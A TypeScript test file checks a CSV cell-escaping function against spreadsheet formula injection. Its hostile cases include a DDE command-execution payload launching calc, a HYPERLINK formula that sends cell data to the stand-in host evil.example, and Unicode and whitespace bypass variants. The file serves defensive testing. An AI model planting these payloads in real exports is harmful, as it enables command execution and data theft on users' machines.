import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csvCell } from './csv.ts'

/** [cell, escaped cell] */
const HOSTILE: [string, string][] = [
  ['=1+1', "'=1+1"],
  ['+1+1', "'+1+1"],
  ['-1+1', "'-1+1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  [
    '=HYPERLINK("https://evil.example/?x="&A2,"Click")\nsecond line',
    `'=HYPERLINK("https://evil.example/?x="&A2,"Click")\nsecond line`,
  ],
  ['＝1+1', "'＝1+1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['＠SUM(A1)', "'＠SUM(A1)"],
  ['﹦1', "'﹦1"],
  ['−1+A1', "'−1+A1"],
  // A formula after spaces, invisible characters or quotes.
  ['  =1', "'  =1"],
  ['\u00a0=1', "'\u00a0=1"],
  ['\u3000＝1', "'\u3000＝1"],
  ['\ufeff=1', "'\ufeff=1"],
  ['\u200b=1', "'\u200b=1"],
  ['\u0000=1', "'\u0000=1"],
  ['"=1"', '\'"=1"'],
  ['"" =1', '\'"" =1'],
  ["'=1", "''=1"],
  ['\t=1', "'\t'=1"],
  ['\r=1', "'\r'=1"],
  ['\n=1', "'\n'=1"],
  ['\ttext', "'\ttext"],
  ['\rtext', "'\rtext"],
  ['\ntext', "'\ntext"],
  // A formula after a line end or separator within the cell.
  ['text\n=1', "text\n'=1"],
  ['text\r\n@x', "text\r\n'@x"],
  ['text\u2028=1', "text\u2028'=1"],
  ['text;=1', "text;'=1"],
  ['text\t=1', "text\t'=1"],
  ['text; "=1', 'text;\' "=1'],
  ['text;\n=1', "text;\n'=1"],
  ['text;-5;=1', "text;-5;'=1"],
  // Text that starts like a negative number.
  ['-5-A1', "'-5-A1"],
  ['-5 ', "'-5 "],
  ['--5', "'--5"],
  ['-0x1F', "'-0x1F"],
  ['-', "'-"],
  // Phone numbers: a spreadsheet would drop the plus, or calculate with the minus.
  ['+49301234567', "'+49301234567"],
  ['+49 30 1234-567', "'+49 30 1234-567"],
]

const HARMLESS = [
  '',
  'text',
  'a=b',
  'a, =b',
  'a - b + c @ d',
  'name@acme.example',
  '-5',
  '-0.5',
  '-1,5',
  '5',
  '007',
  '2026-11-23',
  '2026-11-23 14:36:05 UTC',
  '2026-11-23T14:36:05.000Z',
  'first line\nsecond line',
  'one; two; three',
  '"quoted"',
  '  text',
  '{"a":"=1"}',
  '日本語',
  'https://acme.example/?a=1&b=-2',
]

test.each(HOSTILE)('%j is written as %j', (cell, written) => {
  expect(csvCell(cell)).toBe(written)
})

test.each(HARMLESS)('%j stays as it is', (cell) => {
  expect(csvCell(cell)).toBe(cell)
})

test.each([-5, -0.25, 0, 7, -1e21])('the number %d stays a number', (cell) => {
  expect(csvCell(cell)).toBe(String(cell))
})

describe('for any cell', () => {
  const parts = ['=', '+', '-', '@', '＝', '−', '\n', '\r', '\t', ';', ',', '"', "'", ' ', '\u200b', 'a', '1']
  const cells = fc.array(fc.constantFrom(...parts), { maxLength: 12 }).map((some) => some.join(''))
  const isNumber = (text: string) => /^-\d+(?:[.,]\d+)?$/.test(text)

  test('no part of it, however a spreadsheet splits it, starts a formula', () => {
    fc.assert(
      fc.property(cells, (cell) => {
        const pieces = csvCell(cell).split(/[;\t\r\n]/)
        const formulas = pieces.filter((piece) => /^[\s\u200b"]*[=+\-@＝−]/.test(piece) && !isNumber(piece))
        expect(formulas).toEqual([])
      }),
      { numRuns: 2_000 },
    )
  })

  test('removing the apostrophes restores it', () => {
    fc.assert(
      fc.property(cells, (cell) => {
        const bare = (text: string) => text.replaceAll("'", '')
        expect(bare(csvCell(cell))).toBe(bare(cell))
      }),
    )
  })
})

test('a long cell takes no longer than its length', () => {
  const began = performance.now()
  csvCell(`${' '.repeat(500_000)}=1`)
  csvCell(`${'\n "'.repeat(150_000)}`)
  csvCell(`${';'.repeat(500_000)}`)
  expect(performance.now() - began).toBeLessThan(10_000)
})
